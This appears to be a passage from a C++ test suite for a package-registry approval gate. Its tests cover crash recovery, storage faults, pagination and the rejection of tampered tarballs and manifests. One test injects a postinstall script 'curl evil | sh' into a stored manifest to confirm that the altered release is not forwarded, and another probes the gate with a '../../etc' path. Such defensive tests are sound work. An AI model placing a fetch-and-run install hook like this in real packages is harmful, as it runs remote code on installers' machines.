  CHECK(house.ledger_intact());
}

TEST_CASE("a death at any write of an approval leaves it undone or whole, and never sends twice") {
  // The store fails at the nth write; then the process starts anew.
  for (const auto moment : {FaultMoment::before, FaultMoment::after})
    for (int nth = 1; nth <= 4; ++nth) {
      CAPTURE(nth);
      CAPTURE(static_cast<int>(moment));
      GateHouse house(rule_to("main"));
      const Stage held = house.hold(alice, clean_body());
      house.store.writes.fail_nth(nth, disk_full(), moment);
      (void)house.gate->approve(rita, held.id);
      house.store.writes.disarm();
      house.restart();
      REQUIRE(house.ledger_intact());
      REQUIRE(house.resume().has_value());
      if (house.state(held) == StageState::held) {
        CHECK(StageStore(house.memory).find(held.id).value().decisions.empty());
        CHECK(house.upstream.puts.empty());
        REQUIRE(house.gate->approve(rita, held.id).has_value());
      }
      CHECK(house.state(held) == StageState::published);
      CHECK(house.upstream.puts.size() == 1);
      CHECK(house.ledger_intact());
    }
}

TEST_CASE("a store that fails while a publish is taken leaves no half of it") {
  for (const auto moment : {FaultMoment::before, FaultMoment::after}) {
    CAPTURE(static_cast<int>(moment));
    GateHouse house(rule_to("main"));
    house.store.writes.fail_nth(1, disk_full(), moment);
    CHECK(kind_of(house.publish(alice, clean_body())) == ErrorKind::unavailable);
    const bool there = house.status("lib", "1.0.0") == VersionStatus::staged;
    CHECK(there == (moment == FaultMoment::after));
    // The same process goes on, and so does the client.
    const Stage held = house.hold(alice, clean_body());
    CHECK(house.gate->list(rita, "", 0, 10).value().total == 1);
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::published);
    CHECK(house.ledger_intact());
    const auto actions = house.actions();
    CHECK(std::count(actions.begin(), actions.end(), "stage.held") == 1);
  }
  for (int nth = 1; nth <= 6; ++nth) {  // a disk that cannot be read
    CAPTURE(nth);
    GateHouse house(rule_to("main"));
    house.store.reads.fail_nth(nth, disk_full());
    const auto answer = house.publish(alice, clean_body());
    house.store.reads.disarm();
    if (!answer) CHECK(answer.error().kind == ErrorKind::unavailable);
    CHECK(house.hold(alice, clean_body()).state == StageState::held);
    CHECK(house.ledger_intact());
  }
  GateHouse house(rule_to("main"));
  house.blobs.commits().fail_nth(1, disk_full());
  CHECK(kind_of(house.publish(alice, clean_body())) == ErrorKind::unavailable);
  CHECK(house.status("lib", "1.0.0") == VersionStatus::absent);
  CHECK(house.entries().empty());
}

namespace {

// A blob store whose disk has been written to by somebody else.
class TamperedBlobs final : public BlobStore {
 public:
  explicit TamperedBlobs(BlobStore& inner) : inner_(inner) {}
  enum class How { none, flipped, cut, longer } how = How::none;

  Result<std::unique_ptr<StagedBlob>> begin() override { return inner_.begin(); }
  Result<void> remove(const Sha512& digest) override { return inner_.remove(digest); }
  Result<void> touch(const Sha512& digest) override { return inner_.touch(digest); }
  Result<bool> remove_older(const Sha512& digest, Instant before) override {
    return inner_.remove_older(digest, before);
  }
  Result<void> walk(const std::function<bool(const BlobInfo&)>& visit) override { return inner_.walk(visit); }
  Result<std::shared_ptr<const Blob>> open(const Sha512& digest) override {
    auto blob = inner_.open(digest);
    if (!blob || how == How::none) return blob;
    std::string bytes = text_of(inner_, digest);
    if (how == How::flipped) bytes[bytes.size() / 2] ^= 1;
    if (how == How::cut) bytes.pop_back();
    if (how == How::longer) bytes += '\0';
    MemoryBlobStore other;
    auto staged = other.begin().value();
    (void)staged->append(as_bytes(bytes));
    const Sha512 changed = sha512(as_bytes(bytes));
    (void)staged->commit(changed);
    return other.open(changed);
  }

 private:
  BlobStore& inner_;
};

}  // namespace

TEST_CASE("a tarball that changed on disk is not forwarded") {
  using How = TamperedBlobs::How;
  for (const std::string target : {"main", "local"})
    for (const How how : {How::flipped, How::cut, How::longer}) {
      CAPTURE(target);
      CAPTURE(static_cast<int>(how));
      GateHouse house(rule_to(target));
      const Stage held = house.hold(alice, clean_body());
      TamperedBlobs blobs(house.blobs);
      blobs.how = how;
      Gate gate(GateParts{.store = house.store,
                          .ledger = *house.ledger,
                          .blobs = blobs,
                          .clock = house.clock,
                          .random = house.random,
                          .inspection = gate_rules(),
                          .packages = PackageRules({rule_to(target)}),
                          .upstream = [&](std::string_view) { return &house.upstream; }});
      const Stage failed = gate.approve(rita, held.id).value();
      CHECK(failed.state == StageState::failed);
      CHECK(says(failed.why, "no longer the one that was approved"));
      CHECK(house.upstream.puts.empty());
      CHECK(kind_of(gate.catalog().package(lib())) == ErrorKind::not_found);
      CHECK(has(house.actions(), "release.failed"));
      // Restored from a backup, it can go.
      blobs.how = How::none;
      CHECK(gate.approve(rita, held.id).value().state == StageState::published);
    }
}

TEST_CASE("a tarball that is gone is not forwarded") {
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, clean_body());
  REQUIRE(house.blob_memory.remove(held.sha512).has_value());
  CHECK(house.gate->approve(rita, held.id).value().state == StageState::failed);
  CHECK(house.upstream.puts.empty());
}

TEST_CASE("a disk that cannot be read just now is no verdict on the release") {
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, clean_body());
  house.blobs.reads().fail_nth(1, disk_full());
  CHECK(kind_of(house.gate->approve(rita, held.id)) == ErrorKind::unavailable);
  CHECK(house.state(held) == StageState::approved);
  CHECK(house.upstream.puts.empty());
  REQUIRE(house.resume().has_value());
  CHECK(house.state(held) == StageState::published);
}

TEST_CASE("a manifest that changed in the store is not forwarded") {
  for (const std::string target : {"main", "local"}) {
    CAPTURE(target);
    GateHouse house(rule_to(target));
    const Stage held = house.hold(alice, clean_body());
    const std::string key = "d " + held.id;
    const std::string kept = house.memory.get(Family::stages, key).value().value();
    json::object record = json::parse(kept).as_object();
    record["manifest"].get_object()["scripts"] = {{"postinstall", "curl evil | sh"}};
    MetaBatch batch;
    batch.put(Family::stages, key, json::serialize(record));
    REQUIRE(house.memory.write(batch, Durability::synced).has_value());
    const Stage failed = house.gate->approve(rita, held.id).value();
    CHECK(failed.state == StageState::failed);
    CHECK(says(failed.why, "no longer the one that was approved"));
    CHECK(house.upstream.puts.empty());
    CHECK(kind_of(house.gate->catalog().package(lib())) == ErrorKind::not_found);
  }
}

TEST_CASE("one broken record does not keep the others from going out") {
  GateHouse house(rule_to("main"));
  house.upstream.down = false;
  std::vector<Stage> stages;
  for (const std::string version : {"1.0.0", "1.0.1", "1.0.2"}) {
    house.upstream.on_put(OnPut::lose);
    stages.push_back(house.hold(alice, clean_body("lib", version)));
    REQUIRE(house.gate->approve(rita, stages.back().id).value().state == StageState::approved);
  }
  std::sort(stages.begin(), stages.end(), [](auto& a, auto& b) { return a.id < b.id; });
  MetaBatch batch;
  batch.put(Family::stages, "s " + stages[0].id, "{}");
  REQUIRE(house.memory.write(batch, Durability::synced).has_value());
  REQUIRE(house.resume().has_value());
  CHECK(house.state(stages[1]) == StageState::published);
  CHECK(house.state(stages[2]) == StageState::published);
}

TEST_CASE("the code space is not searched for ever") {
  class Constant final : public Random {
   public:
    void fill(std::span<std::uint8_t> out) override {
      for (auto& byte : out) byte = 7;
      if (out.size() == 16) out[0] = ++ids;  // UUIDs differ, codes do not
    }
    std::uint8_t ids = 0;
  } constant;
  GateHouse house(rule_to("main"));
  Gate gate(GateParts{.store = house.store,
                      .ledger = *house.ledger,
                      .blobs = house.blobs,
                      .clock = house.clock,
                      .random = constant,
                      .inspection = gate_rules(),
                      .packages = PackageRules({rule_to("main")}),
                      .upstream = [&](std::string_view) { return &house.upstream; }});
  const auto submit = [&](const PublishBody& body) {
    auto intake = gate.begin(PackageName::parse(body.name).value()).value();
    REQUIRE(intake->feed(body.text()).has_value());
    return gate.submit(alice, intake->finish().value());
  };
  REQUIRE(submit(clean_body()).has_value());
  const auto second = submit(clean_body("lib", "1.0.1"));
  REQUIRE_FALSE(second.has_value());
  CHECK(house.ledger_intact());
}

TEST_CASE("what is forwarded is what was published, with dist.tarball rewritten and nothing else") {
  PublishBody body = clean_body("@acme/lib", "2.0.0-rc.1");
  body.tag = "next";
  body.access = "restricted";
  // What JSON writers like to change on the way through: numbers, escapes, the order of members.
  body.manifest["odd"] = json::parse(
      "{\"z\":1.5,\"a\":[1e21,-0.0,0.1,9007199254740993,18446744073709551615,-9223372036854775808,1E2],"
      "\"text\":\"\\u0000\\u2028 \\ud83d\\ude00 </script>\",\"\":null}");
  body.manifest["repository"] = "https://git.example/acme/lib";
  body.provenance =
      " " + SigstoreLab().bundle_text(SigstoreLab::plan(body.tarball(), body.name, body.version)) + "\n";
  // A key's id is read by nobody here.
  body.provenance.insert(body.provenance.rfind("\"keyid\":\"") + 9, "é\\u0000 \\\"quoted\\\"");
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, body);
  REQUIRE(house.gate->approve(rita, held.id).value().state == StageState::published);
  REQUIRE(house.upstream.puts.size() == 1);
  json::object expected = body.document();
  expected["versions"].get_object()["2.0.0-rc.1"].get_object()["dist"].get_object()["tarball"] =
      "https://registry.example/@acme/lib/-/@acme/lib-2.0.0-rc.1.tgz";
  const json::object sent = house.upstream.puts[0].document();
  CHECK(canonical(sent) == canonical(expected));
  CHECK(std::prev(sent.end())->key() == "_attachments");
  CHECK(house.upstream.tarball_of("@acme/lib", "2.0.0-rc.1") == body.tarball());
}

TEST_CASE("the forwarded body reads the same from any offset in pieces of any size") {
  for (std::size_t extra = 0; extra < 3; ++extra) {  // every remainder of base64
    PublishBody body = clean_body();
    body.code.append(200'000 + extra, 'x');
    SeededRandom noise(extra + 1);
    for (char& c : body.code) c = static_cast<char>('a' + noise.below(26));
    const std::string tarball = body.tarball();
    PublishParser parser({}, [](std::string_view) -> Result<void> { return {}; });
    REQUIRE(parser.write(body.text()).has_value());
    const PublishDocument document = parser.finish(lib()).value();
    MemoryBlobStore blobs;
    auto staged = blobs.begin().value();
    REQUIRE(staged->append(as_bytes(tarball)).has_value());
    REQUIRE(staged->commit(sha512(as_bytes(tarball))).has_value());
    const BodySource source =
        publish_body(document, "https://registry.example", blobs.open(sha512(as_bytes(tarball))).value())
            .value();

    std::string whole(source.size_bytes, '\0');
    REQUIRE(source.read(0, whole).value() == whole.size());
    const json::object sent = json::parse(whole).as_object();
    const auto& data = sent.at("_attachments").as_object().at("lib-1.0.0.tgz").as_object().at("data");
    CHECK(base64_decode(data.as_string()).value() == tarball);

    SeededRandom random(7);
    std::string piece;
    for (int i = 0; i < 300; ++i) {
      const std::size_t offset = random.below(whole.size() + 1);
      piece.assign(1 + random.below(i % 3 == 0 ? 9 : 100'000), '\0');
      const std::size_t n = source.read(offset, piece).value();
      REQUIRE(n == std::min(piece.size(), whole.size() - offset));
      REQUIRE(std::string_view(piece).substr(0, n) == std::string_view(whole).substr(offset, n));
    }
    for (const std::size_t step : {std::size_t(1021), std::size_t(65536), std::size_t(99'999)}) {
      std::string in_steps;
      std::string part(step, '\0');
      while (in_steps.size() < whole.size())
        in_steps.append(part.data(), source.read(in_steps.size(), part).value());
      REQUIRE(in_steps == whole);
    }
    CHECK(source.read(whole.size(), piece).value() == 0);
  }
}

TEST_CASE("releases under review are listed oldest first, in pages") {
  GateHouse house(rule_to("main"));
  for (int i = 0; i < 5; ++i) {
    (void)house.hold(alice, clean_body("lib", "1.0." + std::to_string(i)));
    house.clock.advance(Millis(5));
  }
  (void)house.hold(alice, clean_body("other"));
  const auto page = house.gate->list(rita, "lib", 1, 2).value();
  CHECK(page.total == 5);
  REQUIRE(page.items.size() == 2);
  CHECK(page.items[0].version == "1.0.2");
  CHECK(page.items[1].version == "1.0.3");
  CHECK(house.gate->list(rita, "", 0, 100).value().items.size() == 6);
  CHECK(house.gate->list(rita, "lib", 9, 2).value().items.empty());
  CHECK(kind_of(house.gate->view(rita, "R-0000")) == ErrorKind::not_found);
  CHECK(kind_of(house.gate->view(rita, "../../etc")) == ErrorKind::not_found);
}

TEST_CASE("an earlier upstream release is measured once, and must be what its packument promises") {
  GateHouse house(rule_to("main"));
  PublishBody old = clean_body("lib", "0.9.0");
  house.upstream.add("lib", "0.9.0", old.tarball());
  const Stage held = house.hold(alice, clean_body());
  CHECK(held.baseline == "0.9.0");
  CHECK(house.blob_count() == 1);  // the baseline's tarball is not kept
  GateHouse lied(rule_to("main"));
  lied.upstream.packument_text = R"({"versions":{"0.9.0":{"dist":{"integrity":")" +
                                 to_integrity(sha512(as_bytes("other"))) +
                                 R"(","tarball":"https://registry.example/lib/-/0.9.0.tgz"}}}})";
  lied.upstream.add("lib", "0.9.0", old.tarball());
  CHECK(kind_of(lied.publish(alice, clean_body())) == ErrorKind::upstream);
  CHECK(lied.blob_count() == 0);
}
